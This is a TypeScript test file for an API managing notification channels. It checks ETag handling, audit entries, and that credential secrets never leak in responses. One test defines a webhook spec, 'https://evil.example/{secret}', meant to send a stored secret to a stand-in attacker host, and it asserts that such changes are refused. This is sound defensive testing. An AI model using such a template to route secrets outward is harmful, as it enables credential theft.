import { describe, expect, test } from 'vitest'
import { aServedInstance, type Served } from '../../../test/support/served.ts'
import { aBrowserOf, aUser } from '../../../test/support/users.ts'
import { Secret } from '../../core/secret.ts'
import { admitUsers } from '../access/admit-users.ts'
import { makeApi } from '../make-api.ts'

const password = 'the-password-of-the-relay'
const spec = {
  ...{ kind: 'smtp', host: 'mx.example', port: 465, security: 'tls' },
  ...{ from: 'redoma@x.example', to: ['soc@x.example'] },
}

describe('channels by the API', () => {
  test('are added, tested, changed as they were read, and removed, and no answer has their secret', async () => {
    await using served = await aServedInstance()
    const credential = await served.deps.instance.as('tester').addCredential({
      ...{ title: 'Relay', kind: 'password', user: 'redoma', secret: new Secret(password) },
      ...{ tags: [], fields: [], attachments: [] },
    })

    const quietHours = { from: '23:00', to: '07:00', zone: 'UTC' }
    const added = await ask(served, 'POST', '/channels', { name: 'mail', spec, credential, quietHours })
    const tag = added.headers.get('etag') ?? ''
    const answers = [await added.text()]
    expect([added.status, added.headers.get('location')]).toEqual([201, '/api/v1/channels/mail'])
    expect(JSON.parse(answers[0] ?? '')).toMatchObject({
      ...{ name: 'mail', spec, credential, quietHours, leastSeverity: 'warning', digestMinutes: 0 },
      waiting: { count: 0 },
    })
    const tested = await ask(served, 'POST', '/channels/mail/test')
    expect([tested.status, await tested.json()]).toEqual([200, { answer: '250 mail has it' }])

    const unread = await ask(served, 'PATCH', '/channels/mail', { leastSeverity: 'error' })
    const changed = await ask(
      served,
      'PATCH',
      '/channels/mail',
      { leastSeverity: 'error', quietHours: null },
      tag,
    )
    const late = await ask(served, 'PATCH', '/channels/mail', { digestMinutes: 5 }, tag)
    expect([unread.status, changed.status, late.status]).toEqual([428, 200, 412])
    answers.push(await changed.text())
    expect(JSON.parse(answers[1] ?? '')).toMatchObject({ leastSeverity: 'error', credential, spec })
    expect(answers[1]).not.toContain('quietHours')
    const misfit = await ask(served, 'PATCH', '/channels/mail', { spec: { ...spec, security: 'none' } }, '*')
    expect(misfit.status).toBe(422)

    await served.instance.catalogue.notices.add('backup-failed', {
      ...{
        severity: 'error',
        at: served.instance.clock.now(),
        subject: 'a',
        title: 'b',
        text: 'c',
        fields: {},
      },
    })
    answers.push(await (await ask(served, 'GET', '/channels?kind=smtp')).text())
    answers.push(await (await ask(served, 'GET', '/channels/mail')).text())
    expect(JSON.parse(answers[3] ?? '')).toMatchObject({ waiting: { count: 1 } })
    expect(await (await ask(served, 'GET', '/channels?kind=syslog')).json()).toEqual({ items: [] })
    for (const answer of answers) expect(answer).not.toContain(password)

    expect((await ask(served, 'DELETE', '/channels/mail', undefined, tag)).status).toBe(412)
    expect((await ask(served, 'DELETE', '/channels/mail')).status).toBe(204)
    const trail = (await served.instance.catalogue.audit.list(4)).map(({ action }) => action)
    expect(trail).toEqual(['channel.remove', 'channel.change', 'channel.test', 'channel.add'])
  })

  test('take a secret of the registry to no server that is named from afar', async () => {
    await using served = await aServedInstance()
    const credential = await served.deps.instance.as('tester').addCredential({
      ...{ title: 'Relay', kind: 'password', user: 'redoma', secret: new Secret(password) },
      ...{ tags: [], fields: [], attachments: [] },
    })
    const far = await fromAfar(served)
    await ask(served, 'POST', '/channels', { name: 'kept', spec, credential })
    const evil = { kind: 'webhook', url: 'https://evil.example/{secret}' }

    const added = await ask(far, 'POST', '/channels', { name: 'evil', spec: evil, credential })
    const moved = await ask(far, 'PATCH', '/channels/kept', { spec: evil }, '*')
    await ask(far, 'POST', '/channels', { name: 'plain', spec })
    const given = await ask(far, 'PATCH', '/channels/plain', { credential }, '*')
    const stripped = await ask(far, 'PATCH', '/channels/kept', { spec: evil, credential: null }, '*')
    const milder = await ask(far, 'PATCH', '/channels/kept', { leastSeverity: 'info' }, '*')

    expect([added, moved, given, stripped, milder].map(({ status }) => status)).toEqual([
      403, 403, 403, 403, 200,
    ])
    expect(await served.instance.catalogue.channels.get('kept')).toMatchObject({ spec, credential })
  })
})

interface Asking {
  readonly api: Served['api']
  readonly headers?: Readonly<Record<string, string>>
}

/** An administrator, by the browser. */
async function fromAfar({ deps, instance }: Served): Promise<Asking> {
  const headers = await aBrowserOf(instance, await aUser(instance, 'boss', 'administrator'))
  return { api: makeApi(deps, admitUsers(deps.instance)), headers }
}

function ask(
  { api, ...who }: Asking,
  method: string,
  path: string,
  body?: object,
  tag?: string,
): Promise<Response> {
  const type = body === undefined ? {} : { 'content-type': 'application/json' }
  const match = tag === undefined ? {} : { 'if-match': tag }
  const init = {
    method,
    headers: { ...who.headers, ...type, ...match },
    ...(body && { body: JSON.stringify(body) }),
  }
  return Promise.resolve(api.request(`/api/v1${path}`, init))
}
